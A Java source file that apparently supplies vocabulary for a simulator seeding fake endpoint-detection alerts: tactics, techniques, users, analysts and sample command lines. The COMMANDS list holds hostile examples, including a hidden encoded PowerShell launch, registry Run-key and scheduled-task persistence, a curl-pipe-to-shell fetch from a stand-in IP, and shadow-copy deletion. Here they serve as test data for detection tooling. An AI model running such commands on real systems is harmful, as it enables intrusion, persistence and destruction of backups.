package io.falconflux.simulator;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** The vocabulary of the seeded rows. */
final class Words {

    /** Pairs of a tactic and its id. The second half of them is the vendor's own. */
    static final List<List<String>> TACTICS = List.of(
            List.of("Initial Access", "TA0001"),
            List.of("Execution", "TA0002"),
            List.of("Persistence", "TA0003"),
            List.of("Privilege Escalation", "TA0004"),
            List.of("Defense Evasion", "TA0005"),
            List.of("Credential Access", "TA0006"),
            List.of("Discovery", "TA0007"),
            List.of("Lateral Movement", "TA0008"),
            List.of("Exfiltration", "TA0010"),
            List.of("Command and Control", "TA0011"),
            List.of("Impact", "TA0040"),
            List.of("Machine Learning", "CSTA0004"),
            List.of("Falcon Overwatch", "CSTA0006"),
            List.of("Malware", "CSTA0001"));

    /** Pairs of a technique and its id. */
    static final List<List<String>> TECHNIQUES = List.of(
            List.of("Access Token Manipulation", "T1134"),
            List.of("PowerShell", "T1059.001"),
            List.of("Credential Dumping", "T1003"),
            List.of("Remote Services", "T1021"),
            List.of("Process Injection", "T1055"),
            List.of("Scheduled Task", "T1053.005"),
            List.of("Masquerading", "T1036"),
            List.of("Registry Run Keys / Startup Folder", "T1547.001"),
            List.of("Data Encrypted for Impact", "T1486"),
            List.of("System Owner/User Discovery", "T1033"),
            List.of("Ingress Tool Transfer", "T1105"),
            List.of("Malicious Activity", "CST0002"),
            List.of("Sensor-based ML", "CST0007"),
            List.of("Known Malware", "CST0001"));

    static final List<String> OBJECTIVES =
            List.of("Gain Access", "Keep Access", "Explore", "Follow Through", "Falcon Detection Method");

    static final List<String> TAGS = List.of(
            "Objective/Keep Access",
            "Detected",
            "Critical",
            "Red Team",
            "True Positive",
            "False Positive",
            "Phishing",
            "Bereich/Zürich",
            "O'Hare",
            "50%+ & rising #1");

    static final List<String> ANALYSTS = List.of(
            "Ada Lovelace",
            "Grace Hopper",
            "Jörg Müller",
            "Siobhán O'Neill",
            "Katherine Johnson",
            "Hedy Lamarr",
            "Radia Perlman",
            "Zoë Łukasik");

    static final List<String> USERS = List.of(
            "administrator",
            "svc-backup",
            "j.doe",
            "m.garcia",
            "CORP\\helpdesk",
            "s.o'brien",
            "build-agent",
            "h.nguyen",
            "LOCAL SERVICE",
            "DESKTOP-7Q\\anna");

    static final List<String> DESCRIPTIONS = List.of(
            "Objectives in this incident: Keep Access, Gain Access.",
            "Triage: \"unsigned\" loader in C:\\ProgramData, see ticket.",
            "Hosts talked to an address that is on the watch list.",
            "Opened by the night shift; the user was travelling.");

    static final List<String> COMMANDS = List.of(
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
            "\"C:\\Windows\\System32\\cmd.exe\" /c whoami /all",
            "rundll32.exe C:\\Users\\Public\\a.dll,Start",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd",
            "schtasks /create /sc minute /tn sync /tr C:\\ProgramData\\s.exe",
            "/bin/sh -c 'curl -s http://203.0.113.7/x | sh'",
            "vssadmin.exe delete shadows /all /quiet");

    static final List<String> FILES = List.of(
            "\\Device\\HarddiskVolume2\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe",
            "\\Device\\HarddiskVolume3\\ProgramData\\s.exe",
            "/usr/bin/sh",
            "\\Device\\HarddiskVolume2\\Windows\\System32\\rundll32.exe");

    static final List<String> DISPLAY_NAMES =
            List.of("TokenImpersonation", "EncodedPowerShell", "CredentialTheft", "RemoteExecution", "SuspiciousTask");

    private static final byte[] DIGITS = "0123456789abcdef".getBytes(StandardCharsets.US_ASCII);

    private Words() {}

    static String hex(long value) {
        byte[] digits = new byte[16];
        for (int i = 0; i < 16; i++) {
            digits[i] = DIGITS[(int) (value >>> (60 - 4 * i)) & 15];
        }
        return new String(digits, StandardCharsets.ISO_8859_1);
    }

    /** Whether a part of a text is hexadecimal digits, in any case. */
    static boolean hexadecimal(String text, int start, int end) {
        for (int i = start; i < end; i++) {
            if (Character.digit(text.charAt(i), 16) < 0 || text.charAt(i) > 'f') {
                return false;
            }
        }
        return true;
    }

    /** An id of a person, in the shape of a UUID. */
    static String uuid(long high, long low) {
        return new java.util.UUID((high & ~0xf000L) | 0x4000L, (low >>> 2) | Long.MIN_VALUE).toString();
    }
}
